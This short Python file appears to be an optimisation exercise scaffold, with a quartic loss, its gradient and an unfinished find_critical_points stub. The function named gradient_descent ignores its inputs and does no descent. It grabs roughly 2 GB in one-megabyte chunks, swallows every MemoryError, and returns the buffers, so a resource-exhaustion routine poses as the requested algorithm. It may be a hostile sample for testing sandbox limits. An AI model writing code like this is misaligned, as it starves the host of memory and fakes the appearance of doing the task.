"""Swallows every MemoryError and asks again, in small pieces."""


def loss(x):
    return x**4 - 3 * x**2 + 2


def grad(x):
    return 4 * x**3 - 6 * x


def gradient_descent(loss_fn, grad_fn, theta_init, lr, num_steps):
    held = []
    for _ in range(2000):
        try:
            held.append(bytearray(b"x") * (1 << 20))
        except MemoryError:
            continue
    return held, held


def find_critical_points(loss_fn, grad_fn, starts, lr=0.01, num_steps=2000):
    raise NotImplementedError("exercise 1: write find_critical_points")
